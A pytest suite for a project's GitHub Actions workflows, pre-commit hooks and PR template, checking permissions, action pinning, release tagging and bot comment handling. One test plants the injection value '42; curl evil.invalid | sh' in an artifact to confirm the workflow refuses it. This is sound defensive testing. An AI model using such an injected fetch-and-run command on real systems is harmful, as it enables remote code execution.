"""The GitHub workflows, the PR template and the pre-commit hooks: actionlint-clean, and the
shell they run does what it says (run here with a fake `gh` standing in for GitHub)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
WORKFLOWS = REPO / ".github" / "workflows"


def load_workflow(name: str) -> dict:
    data = yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def steps(name: str) -> list[dict]:
    return [s for job in load_workflow(name)["jobs"].values() for s in job["steps"]]


def step(name: str, step_id: str) -> dict:
    return next(s for s in steps(name) if s.get("id") == step_id)


def run_step(name: str, step_id: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """Run a step's `run:` script the way GitHub does (bash -eo pipefail), in `cwd`."""
    script = cwd / f".step-{step_id}.sh"
    script.write_text(step(name, step_id)["run"], encoding="utf-8")
    full_env = {**os.environ, **(env or {})}
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                          cwd=cwd, env=full_env, capture_output=True, text=True)


# --- lint -------------------------------------------------------------------------------

def test_workflows_lint_clean_with_actionlint() -> None:
    actionlint = shutil.which("actionlint")
    assert actionlint, "actionlint is missing: python -m pip install -e '.[test]'"
    files = sorted(str(p) for p in WORKFLOWS.glob("*.yml"))
    assert len(files) == 3
    out = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True, cwd=REPO)
    assert out.returncode == 0, out.stdout + out.stderr


def test_actionlint_catches_a_broken_workflow(tmp_path: Path) -> None:
    """The lint test can fail: an undefined step output and a bad expression are reported."""
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo ${{ steps.nope.outputs.x }}\n      - run: echo ${{ github.event.pull_request.numbr }\n")
    out = subprocess.run([shutil.which("actionlint") or "actionlint", "-no-color", str(bad)],
                         capture_output=True, text=True, cwd=tmp_path)
    assert out.returncode == 1 and "bad.yml:6" in out.stdout


# --- validate.yml -----------------------------------------------------------------------

def test_validate_runs_every_gate_on_pull_requests_with_a_read_only_token() -> None:
    wf = load_workflow("validate.yml")
    assert "pull_request" in wf["on"] and "pull_request_target" not in wf["on"]
    assert wf["permissions"] == {"contents": "read"}
    runs = {s.get("id"): s.get("run", "") for s in steps("validate.yml")}
    assert runs["fmt"] == "brcd fmt --check --format github"
    assert runs["validate"] == "brcd validate --format github"
    assert 'brcd diff "origin/$BASE_REF" HEAD --check' in runs["semver"]
    assert 'brcd diff "origin/$BASE_REF" HEAD --format markdown > pr/diff.md' in runs["summary"]
    assert "$GITHUB_STEP_SUMMARY" in runs["summary"]
    assert "pytest" in runs["tests"]
    for gate in ("fmt", "validate", "summary", "semver", "tests"):
        # every gate runs even when an earlier one failed: one push shows every problem
        assert "!cancelled()" in step("validate.yml", gate)["if"]
    checkout = next(s for s in steps("validate.yml") if s.get("uses", "").startswith("actions/checkout"))
    assert checkout["with"]["fetch-depth"] == 0
    upload = next(s for s in steps("validate.yml") if s.get("uses", "").startswith("actions/upload-artifact"))
    assert upload["with"]["name"] == "brcd-diff"


# --- comment.yml ------------------------------------------------------------------------

FAKE_GH = r"""#!/usr/bin/env bash
# Stands in for the GitHub CLI: logs each call, answers from environment variables; the comment
# list is $FAKE_COMMENTS (GitHub's JSON), filtered by the call's own --jq with jq.
printf '%s\n' "$*" >> "$GH_LOG"
case "$*" in
  *"/pulls/"*"--jq .head.sha"*) echo "$FAKE_HEAD" ;;
  *"--paginate"*)
    filter="" prev=""
    for a in "$@"; do [ "$prev" = "--jq" ] && filter="$a"; prev="$a"; done
    jq -r "$filter" "$FAKE_COMMENTS" ;;
  *"-X POST"*|*"-X PATCH"*) for a in "$@"; do case "$a" in body=@*) cp "${a#body=@}" "$GH_BODY" ;; esac; done ;;
esac
exit 0
"""
BOT = "github-actions[bot]"
MARKER = "<!-- brcd-data-diff -->"


def comments(env: dict[str, str], *items: tuple[int, str, str, str]) -> None:
    """The pull request's comments as GitHub lists them: (id, login, user type, body)."""
    Path(env["FAKE_COMMENTS"]).write_text(json.dumps(
        [{"id": i, "user": {"login": login, "type": kind}, "body": body} for i, login, kind, body in items]))


@pytest.fixture
def comment_env(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    gh = bin_dir / "gh"
    gh.write_text(FAKE_GH)
    gh.chmod(0o755)
    work = tmp_path / "work"
    (work / "pr").mkdir(parents=True)
    (work / "pr" / "number").write_text("42\n")
    (work / "pr" / "diff.md").write_text("## incidents\n\n1 row added. Required bump: **MINOR**\n")
    if not shutil.which("jq"):
        pytest.skip("jq is not installed (GitHub's runners have it; apt-get install jq)")
    (tmp_path / "comments.json").write_text("[]")
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "GH_LOG": str(tmp_path / "gh.log"),
           "GH_BODY": str(tmp_path / "body.md"), "FAKE_HEAD": "abc1234def",
           "FAKE_COMMENTS": str(tmp_path / "comments.json"), "BOT": BOT,
           "REPO": "owner/brcd", "HEAD_SHA": "abc1234def", "CONCLUSION": "success",
           "RUN_URL": "https://example.invalid/run/1", "GH_TOKEN": "not-a-token"}
    return work, env


def gh_calls(env: dict[str, str]) -> list[str]:
    log = Path(env["GH_LOG"])
    return log.read_text().splitlines() if log.exists() else []


def test_comment_workflow_never_runs_pull_request_code() -> None:
    wf = load_workflow("comment.yml")
    assert wf["on"]["workflow_run"] == {"workflows": ["validate"], "types": ["completed"]}
    assert wf["permissions"] == {}
    job = wf["jobs"]["comment"]
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert not any(s.get("uses", "").startswith("actions/checkout") for s in job["steps"])
    script = step("comment.yml", "post")["run"]
    for runs_code in ("brcd ", "pip install", "python", "bash pr/", "source "):  # the PR's files are data only
        assert runs_code not in script


def test_comment_is_posted_with_the_summary(comment_env) -> None:
    work, env = comment_env
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 0, out.stderr
    calls = gh_calls(env)
    assert calls[0] == "api repos/owner/brcd/pulls/42 --jq .head.sha"
    assert calls[-1].startswith("api -X POST repos/owner/brcd/issues/42/comments -F body=@comment.md")
    body = Path(env["GH_BODY"]).read_text()
    assert body.startswith("<!-- brcd-data-diff -->\n**Data diff** for abc1234: checks success")
    assert "Required bump: **MINOR**" in body


def test_comment_is_updated_not_repeated(comment_env) -> None:
    work, env = comment_env
    comments(env, (12, "maintainer", "User", "Thanks!"), (777, BOT, "Bot", MARKER + "\nold diff"))
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 0, out.stderr
    assert gh_calls(env)[-1].startswith("api -X PATCH repos/owner/brcd/issues/comments/777 -F body=@comment.md")
    assert "updated comment 777 on #42" in out.stdout


@pytest.mark.parametrize("author", [("mallory", "User"), ("evil-app[bot]", "Bot"), (BOT, "User")],
                         ids=["a user", "another bot", "a user named like the bot"])
def test_a_marked_comment_by_anyone_else_is_never_edited(comment_env, author: tuple[str, str]) -> None:
    """Anyone can write a comment that starts with the marker: only the workflow's own is edited."""
    work, env = comment_env
    comments(env, (5, *author, MARKER + "\nmy own text"), (6, BOT, "Bot", "a bot comment without the marker"))
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 0, out.stderr
    assert not any("PATCH" in call for call in gh_calls(env))
    assert gh_calls(env)[-1].startswith("api -X POST repos/owner/brcd/issues/42/comments")


def test_no_comment_when_the_pull_request_has_moved_on(comment_env) -> None:
    work, env = comment_env
    env["FAKE_HEAD"] = "fffffff000"
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 0
    assert len(gh_calls(env)) == 1 and not Path(env["GH_BODY"]).exists()


def test_an_artifact_without_a_plain_number_is_refused(comment_env) -> None:
    work, env = comment_env
    (work / "pr" / "number").write_text("42; curl evil.invalid | sh\n")
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 1
    assert "::error::the artifact holds no pull request number" in out.stdout
    assert gh_calls(env) == []


def test_a_huge_diff_is_cut_and_says_so(comment_env) -> None:
    work, env = comment_env
    (work / "pr" / "diff.md").write_text("x" * 70000)
    out = run_step("comment.yml", "post", work, env)
    assert out.returncode == 0, out.stderr
    body = Path(env["GH_BODY"]).read_text()
    assert len(body) < 65536
    assert "_Cut at 60000 of 70000 characters: the whole diff is in the run's summary._" in body


# --- release.yml ------------------------------------------------------------------------

@pytest.fixture
def release_dir(tmp_path: Path) -> Path:
    (tmp_path / "datapackage.json").write_text(json.dumps({"name": "brcd", "version": "1.2.0"}))
    (tmp_path / "CHANGELOG.md").write_text("# Changelog\n\n## 1.2.0 - 2026-12-01\n\n- Added rows.\n\n"
                                           "## 1.1.0 - 2026-11-30\n\n- Older.\n")
    return tmp_path


def test_release_is_triggered_by_version_tags_only() -> None:
    wf = load_workflow("release.yml")
    assert wf["on"] == {"push": {"tags": ["v*"]}}
    assert wf["permissions"] == {"contents": "read"}
    build = step("release.yml", "build")["run"]
    assert "brcd release" in build and "SHA256SUMS" in build


def test_only_the_publish_job_can_write_and_it_runs_no_project_code() -> None:
    jobs = load_workflow("release.yml")["jobs"]
    assert set(jobs) == {"build", "publish"}
    assert jobs["build"]["permissions"] == {"contents": "read"}
    publish = jobs["publish"]
    assert publish["permissions"] == {"contents": "write"} and publish["needs"] == "build"
    uses = [s["uses"].split("@")[0] for s in publish["steps"] if "uses" in s]
    assert uses == ["actions/download-artifact"]  # no checkout, no setup-python: nothing of the project runs
    script = "\n".join(s.get("run", "") for s in publish["steps"])
    for runs_code in ("brcd", "pip", "python", "pytest", "make", "./", "bash "):
        assert runs_code not in script, runs_code
    assert "sha256sum --check SHA256SUMS" in script
    assert 'gh release create "$TAG" dist/*.zip dist/*.duckdb dist/SHA256SUMS' in script


def test_the_build_job_checks_form_data_and_the_built_zip_before_handing_it_on() -> None:
    build = load_workflow("release.yml")["jobs"]["build"]
    order = [s.get("id") or s.get("uses", "").split("@")[0] for s in build["steps"]]
    runs = {s.get("id"): s.get("run", "") for s in build["steps"]}
    assert runs["fmt"] == "brcd fmt --check --format github"
    assert runs["validate"] == "brcd validate --format github"
    assert 'brcd verify "$1"' in runs["verify"]
    assert order.index("fmt") < order.index("validate") < order.index("build") < order.index("verify") \
        < order.index("actions/upload-artifact")
    for s in build["steps"]:  # every gate must pass: none is skipped after a failure
        assert "if" not in s and not s.get("continue-on-error"), s


def test_the_verify_step_verifies_the_one_zip_and_refuses_two(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "brcd"
    fake.write_text('#!/usr/bin/env bash\nprintf "%s\\n" "$*" >> "$BRCD_LOG"\n')
    fake.chmod(0o755)
    (tmp_path / "dist").mkdir()
    (tmp_path / "dist" / "brcd-1.2.0.zip").write_bytes(b"zip")
    (tmp_path / "release-notes.md").write_text("- Added rows.\n")
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "BRCD_LOG": str(tmp_path / "brcd.log")}
    out = run_step("release.yml", "verify", tmp_path, env)
    assert out.returncode == 0, out.stdout + out.stderr
    assert (tmp_path / "brcd.log").read_text() == "verify dist/brcd-1.2.0.zip\n"
    assert (tmp_path / "dist" / "release-notes.md").exists()
    (tmp_path / "dist" / "brcd-1.1.0.zip").write_bytes(b"zip")
    out = run_step("release.yml", "verify", tmp_path, env)
    assert out.returncode == 1 and "::error::expected one zip in dist/, found 2" in out.stdout


PINNED = re.compile(r"^\s*(?:- )?uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)$")


def test_every_action_is_pinned_to_a_commit_sha_with_its_tag_in_a_comment() -> None:
    seen: dict[str, tuple[str, str]] = {}
    for path in sorted(WORKFLOWS.glob("*.yml")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if "uses:" not in line.split("#")[0]:
                continue
            m = PINNED.match(line)
            assert m, f"{path.name}:{number}: not pinned to a full commit SHA with its tag: {line.strip()}"
            action, sha, tag = m.groups()
            # one SHA per action across the workflows, and one tag per SHA
            assert seen.setdefault(action, (sha, tag)) == (sha, tag), f"{path.name}:{number}: {action}"


def test_no_job_but_publish_and_comment_holds_a_write_permission() -> None:
    allowed = {("release.yml", "publish"): {"contents": "write"},
               ("comment.yml", "comment"): {"actions": "read", "pull-requests": "write"}}
    for path in sorted(WORKFLOWS.glob("*.yml")):
        wf = load_workflow(path.name)
        assert "write" not in json.dumps(wf.get("permissions", {})), path.name
        for name, job in wf["jobs"].items():
            perms = job.get("permissions", {})
            if (path.name, name) in allowed:
                assert perms == allowed[(path.name, name)]
            else:
                assert "write" not in json.dumps(perms), (path.name, name)


@pytest.mark.parametrize("tag, ok", [("v1.2.0", True), ("v1.2.1", False), ("1.2.0", False), ("v1.2.0-rc1", False)])
def test_release_refuses_a_tag_that_differs_from_the_version(release_dir: Path, tag: str, ok: bool) -> None:
    output = release_dir / "github_output"
    out = run_step("release.yml", "tag", release_dir, {"TAG": tag, "GITHUB_OUTPUT": str(output)})
    if ok:
        assert out.returncode == 0, out.stdout
        assert output.read_text() == "version=1.2.0\n"
    else:
        assert out.returncode == 1
        assert f"::error file=datapackage.json::tag {tag} does not match the package version 1.2.0" in out.stdout


def test_release_notes_come_from_the_changelog_section(release_dir: Path) -> None:
    out = run_step("release.yml", "notes", release_dir, {"VERSION": "1.2.0"})
    assert out.returncode == 0, out.stdout + out.stderr
    assert (release_dir / "release-notes.md").read_text() == "- Added rows.\n"
    missing = run_step("release.yml", "notes", release_dir, {"VERSION": "1.3.0"})
    assert missing.returncode == 1
    assert "CHANGELOG.md has no section for 1.3.0" in missing.stdout


# --- pre-commit and the PR template --------------------------------------------------------

def test_pre_commit_config_is_valid_and_runs_fmt_check_and_validate() -> None:
    config = REPO / ".pre-commit-config.yaml"
    out = subprocess.run(["pre-commit", "validate-config", str(config)], capture_output=True, text=True)
    assert out.returncode == 0, out.stdout + out.stderr
    hooks = {h["id"]: h for r in yaml.safe_load(config.read_text())["repos"] for h in r["hooks"]}
    assert hooks["brcd-fmt"]["entry"] == "brcd fmt --check"
    assert hooks["brcd-validate"]["entry"] == "brcd validate"
    assert all(h["language"] == "system" and h["pass_filenames"] is False for h in hooks.values())


@pytest.mark.parametrize("rule", ["tables/sources.csv", "URL", "quote_short", "fatalities_low",
                                  "date_precision", "row_version", "CHANGELOG.md"])
def test_pull_request_template_has_the_sourcing_checklist(rule: str) -> None:
    text = (REPO / ".github" / "pull_request_template.md").read_text(encoding="utf-8")
    assert rule in text
    assert text.count("- [ ]") >= 8


def test_every_command_in_contributing_exists() -> None:
    import re

    import typer.main

    from brcd.cli import app

    commands = set(typer.main.get_command(app).commands)
    guide = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    named = set(re.findall(r"\bbrcd ([a-z]+)\b", guide))
    assert {"new", "fmt", "validate", "diff", "release"} <= named
    assert named <= commands, named - commands
